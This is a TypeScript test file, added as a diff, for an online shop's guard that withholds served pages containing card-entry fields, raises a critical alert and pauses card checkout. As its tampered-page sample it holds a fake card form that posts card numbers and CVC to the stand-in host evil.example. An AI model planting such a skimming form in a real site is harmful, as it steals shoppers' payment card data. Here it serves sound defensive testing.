@@ -1,0 +1,72 @@
+// A fake card form that reaches the response pipeline (an intruder's altered view) is withheld,
+// alerted and pauses card checkout; the shop's own pages pass untouched.
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { DATABASES } from '../../test/support/databases.ts';
+import { startTestShop, type TestShop } from '../../test/support/test-shop.ts';
+import { buildShopApp } from '../app.ts';
+import { isCardPaymentPaused } from '../shop-pause/shop-pause.ts';
+import { listOpenAlerts } from '../alerts/raise-alert.ts';
+import { CART_COOKIE } from '../http/cookies.ts';
+import { messagesFor } from '../i18n/locale.ts';
+
+const FAKE_FORM = '<!doctype html><html><body><form action="https://evil.example/collect" method="post">'
+  + '<label>カード番号 <input name="cardNo" inputmode="numeric"></label><input name="cvc"></form></body></html>';
+
+for (const database of DATABASES) {
+  describe(`outgoing card-field guard on ${database.name}`, () => {
+    let shop: TestShop;
+    let tampered: Awaited<ReturnType<typeof buildShopApp>>;
+    beforeAll(async () => {
+      shop = await startTestShop(database);
+      // The same shop with one view altered, as an intruder would leave it.
+      tampered = await buildShopApp({ shop: shop.context, logger: false });
+      tampered.get('/tampered-checkout', async (_request, reply) => reply.type('text/html; charset=utf-8').send(FAKE_FORM));
+      await tampered.ready();
+    });
+    afterAll(async () => {
+      await tampered?.close();
+      await shop?.dispose();
+    });
+
+    it('serves the shop\'s own pages unchanged and without an alert', async () => {
+      for (const url of ['/', '/?lang=en', '/products/uji-matcha-latte', '/cart', '/orders/lookup']) {
+        const r = await tampered.inject({ url });
+        expect(r.statusCode, url).toBeLessThan(500);
+      }
+      expect(await listOpenAlerts(shop.db.db)).toEqual([]);
+      expect(await isCardPaymentPaused(shop.db.db)).toBe(false);
+    });
+
+    it('withholds a page with a card-entry field, raises a critical alert and pauses card checkout', async () => {
+      const r = await tampered.inject({ url: '/tampered-checkout' });
+      expect(r.statusCode).toBe(503);
+      expect(r.body).not.toContain('cardNo');
+      expect(r.body).not.toContain('evil.example');
+      const alerts = await listOpenAlerts(shop.db.db);
+      expect(alerts).toHaveLength(1);
+      expect(alerts[0]).toMatchObject({ kind: 'page_watch.card_field_served', severity: 'critical' });
+      expect(await isCardPaymentPaused(shop.db.db)).toBe(true);
+      // The paused shop: the API refuses checkout with the documented problem; the cart is kept.
+      const cart = await shop.app.inject({ method: 'POST', url: '/api/store/carts', payload: {} });
+      const cartId = (cart.json() as { id: string }).id;
+      const product = (await shop.app.inject({ url: '/api/store/products/uji-matcha-latte' })).json() as { variants: { id: number }[] };
+      await shop.app.inject({ method: 'POST', url: `/api/store/carts/${cartId}/items`, payload: { variantId: product.variants[0]!.id, quantity: 1 } });
+      const checkout = await shop.app.inject({
+        method: 'POST', url: `/api/store/carts/${cartId}/checkout`,
+        payload: { email: 'hanako@example.jp', name: '山田 花子', phone: '090-1234-5678', shippingAddress: { country: 'JP', postalCode: '100-0001', prefecture: '東京都', city: '千代田区', line1: '千代田1-1', line2: '' } },
+      });
+      expect(checkout.statusCode).toBe(503);
+      expect(checkout.headers['content-type']).toMatch(/^application\/problem\+json/);
+      expect(checkout.headers['retry-after']).toBeDefined();
+      const problem = checkout.json() as { type: string; status: number };
+      expect(problem.type).toMatch(/\/checkout-paused$/);
+      expect(problem).not.toHaveProperty('paymentUrl');
+      const kept = (await shop.app.inject({ url: `/api/store/carts/${cartId}` })).json() as { lines?: unknown[]; items?: unknown[] };
+      expect((kept.lines ?? kept.items ?? []).length).toBe(1);
+      // The HTML checkout says so before anything is typed.
+      const page = await shop.app.inject({ url: '/checkout?lang=en', cookies: { [CART_COOKIE]: cartId } });
+      expect(page.statusCode).toBe(200);
+      expect(page.body).toContain(messagesFor('en').errors.checkoutPaused);
+    });
+  });
+}
